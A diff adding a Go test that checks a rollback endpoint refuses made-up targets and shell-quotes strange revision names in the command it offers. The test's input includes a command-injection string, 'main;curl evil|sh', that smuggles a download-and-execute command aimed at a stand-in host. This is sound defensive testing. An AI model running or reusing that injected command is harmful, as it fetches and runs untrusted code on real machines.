@@ -294,3 +294,21 @@ func TestLooksOfRollBack(t *testing.T) {
 		}
 	}
 }
+
+// A link that somebody made up is given no command to be pasted; one of a branch
+// with a strange name can be pasted safely.
+func TestRollbackCommand(t *testing.T) {
+	st := shop(t, nil)
+	if a := st.insider().get(webUnit + "/rollback?" + query("to", "main;curl evil|sh")); a.status != http.StatusNotFound || strings.Contains(a.body, "sane rollback") {
+		t.Error(a)
+	}
+	unit := object.Of(unitBody("shop", "web", "apps"))
+	for rev, want := range map[string]string{
+		oldRev:             "sane rollback ks/web -n shop " + oldRev,
+		"it's;x@sha1:0123": `sane rollback ks/web -n shop 'it'\''s;x@sha1:0123'`,
+	} {
+		if got := st.rollbackCommand(unit, rev); !strings.HasSuffix(got, strings.TrimPrefix(want, "sane rollback ks/web -n shop")) {
+			t.Errorf("%s, want %s", got, want)
+		}
+	}
+}
